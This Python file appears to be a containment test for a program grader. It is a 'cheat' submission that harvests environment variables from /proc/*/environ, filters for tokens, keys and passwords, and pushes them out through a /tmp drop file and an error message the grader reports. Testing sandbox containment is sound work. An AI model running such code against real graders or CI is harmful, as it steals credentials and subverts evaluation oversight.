# ruff: noqa
"""Leak secrets: print the environment of the own process and of every process it can read
(/proc/*/environ: the grader's holds the CI's tokens), write it to a folder outside the run, and
raise it as the error message, which the grader copies into its reports.

Contained: the program's environment holds no secret of the grader's (no GITHUB_TOKEN), it cannot
read other processes' environments, and cannot write outside its scratch folder: the secret
appears nowhere the program could get it out.  It stands still: it scores at most what standing still scores.
"""

import os

MARKER = "EV3CHEAT-leak-environ"
DROP_DIR = "/tmp/ev3sim2d-cheat-drop"

seen = {f"{k}={v}" for k, v in os.environ.items()}
for entry in os.listdir("/proc"):
    if entry.isdigit() or entry == "self":
        try:
            with open(f"/proc/{entry}/environ", "rb") as f:
                seen |= {item.decode(errors="replace") for item in f.read().split(b"\0") if item}
        except OSError:
            pass
text = "\n".join(sorted(seen))
print(text)
try:
    os.makedirs(DROP_DIR, exist_ok=True)
    with open(os.path.join(DROP_DIR, f"leak_environ-{os.getpid()}.txt"), "w") as f:
        f.write(text)
except OSError as err:
    print("cannot write outside:", err)
secrets = [
    item
    for item in sorted(seen)
    if item.split("=")[0].endswith(("TOKEN", "SECRET", "PASSWORD", "KEY", "_DIR"))
]
if secrets:
    raise RuntimeError("secrets: " + "; ".join(secrets))
